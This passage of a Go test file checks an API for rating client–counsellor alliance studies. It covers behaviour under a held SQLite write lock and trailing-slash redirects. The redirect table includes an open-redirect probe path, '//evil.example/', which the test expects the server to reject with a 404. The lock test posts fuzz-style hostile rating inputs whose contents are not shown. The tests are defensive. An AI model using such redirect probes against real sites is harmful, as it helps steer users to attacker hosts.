	}
	rec := post("/v1/studies", `{"name":"lock","forms":{"client":"wai_sr_client","counsellor":"wai_sr_therapist"}}`)
	var s api.StudyResponse
	_ = json.Unmarshal(rec.Body.Bytes(), &s)
	rec = post("/v1/studies/"+s.ID+"/dyads", `{"client_code":"C-1","counsellor_code":"K-1"}`)
	var d api.DyadResponse
	_ = json.Unmarshal(rec.Body.Bytes(), &d)
	if d.ID == "" {
		t.Fatalf("setup failed: %s", rec.Body)
	}

	// Another writer takes the lock and keeps it past the busy timeout.
	other, err := sql.Open("sqlite3", "file:"+path+"?_busy_timeout=100")
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	conn, err := other.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.ExecContext(ctx, "BEGIN IMMEDIATE"); err != nil {
		t.Fatal(err)
	}
	released := false
	release := func() {
		if !released {
			released = true
			_, _ = conn.ExecContext(ctx, "ROLLBACK")
		}
	}
	defer release()

	// Reads are not blocked by a writer in WAL mode.
	if rec := e.send(http.MethodGet, "/v1/dyads/"+d.ID+"/ratings", "", nil, nil); rec.Code != http.StatusOK {
		t.Errorf("read while the write lock is held = %d, want 200; body %s", rec.Code, rec.Body)
	}
	start := time.Now()
	rec = post("/v1/dyads/"+d.ID+"/ratings", hostileRating(1, hostileAnswers))
	took := time.Since(start)
	release()
	p := fzCheckAllow5xx(t, rec)
	if rec.Code != http.StatusServiceUnavailable || p == nil || p.Type != "urn:alliance:problem:unavailable" {
		t.Errorf("write while the database is locked (%v) = %d, want 503 unavailable problem+json; body %s", took.Round(time.Millisecond), rec.Code, rec.Body)
	}
	if rec.Code == http.StatusServiceUnavailable && rec.Header().Get("Retry-After") == "" {
		t.Errorf("503 without Retry-After")
	}
	// Once the lock is gone the same request succeeds: nothing half-written.
	if rec := post("/v1/dyads/"+d.ID+"/ratings", hostileRating(1, hostileAnswers)); rec.Code != http.StatusCreated {
		t.Errorf("write after the lock was released = %d, want 201; body %s", rec.Code, rec.Body)
	}
}

// fzCheckAllow5xx decodes a problem+json of any error status.
func fzCheckAllow5xx(t *testing.T, rec *httptest.ResponseRecorder) *api.Problem {
	t.Helper()
	if rec.Code < 400 {
		return nil
	}
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/problem+json") {
		t.Errorf("%d with Content-Type %q, want problem+json", rec.Code, ct)
	}
	var p api.Problem
	if err := json.Unmarshal(rec.Body.Bytes(), &p); err != nil || p.Status != rec.Code {
		t.Errorf("problem body %q (status member %d, err %v)", rec.Body, p.Status, err)
	}
	return &p
}

// TestTrailingSlashRedirects: a path with a stray trailing slash, or the
// dashboard's root without its slash, is redirected to the route meant,
// with its query, without a body and through the middleware (a request
// id); a method's body survives the redirect (308). A path whose twin is
// no route, or that would send a browser to another host, is a 404
// problem.
func TestTrailingSlashRedirects(t *testing.T) {
	e := newEnv(t)
	study := e.createStudy("wai_sr_client", "wai_sr_therapist")
	tests := []struct {
		method, path string
		status       int
		location     string
	}{
		{"GET", "/v1/studies/", 301, "/v1/studies"},
		{"HEAD", "/v1/studies/?limit=2", 301, "/v1/studies?limit=2"},
		{"GET", "/v1/studies/" + study.ID + "/", 301, "/v1/studies/" + study.ID},
		{"POST", "/v1/studies/" + study.ID + "/dyads/", 308, "/v1/studies/" + study.ID + "/dyads"},
		{"GET", "/ui", 301, "/ui/"},
		{"GET", "/s", 301, "/s/"},
		{"GET", "/v1/nothing/", 404, ""},
		{"DELETE", "/v1/studies/", 404, ""}, // no DELETE /v1/studies
		{"GET", "//evil.example/", 404, ""},
		{"GET", "/v1/dyads//", 404, ""},
	}
	for _, tt := range tests {
		rec := e.do(tt.method, tt.path, "")
		if rec.Code != tt.status || rec.Header().Get("Location") != tt.location {
			t.Errorf("%s %s = %d, Location %q; want %d, %q", tt.method, tt.path, rec.Code, rec.Header().Get("Location"), tt.status, tt.location)
			continue
		}
		if rec.Header().Get("X-Request-ID") == "" {
			t.Errorf("%s %s: no X-Request-ID: the answer skipped the middleware", tt.method, tt.path)
		}
		if tt.status == 404 {
			checkProblem(t, rec, tt.method+" "+tt.path, problemWant{status: 404, typ: "about:blank"})
		} else if rec.Body.Len() != 0 {
			t.Errorf("%s %s: redirect with a body %q", tt.method, tt.path, rec.Body)
		}
	}
}
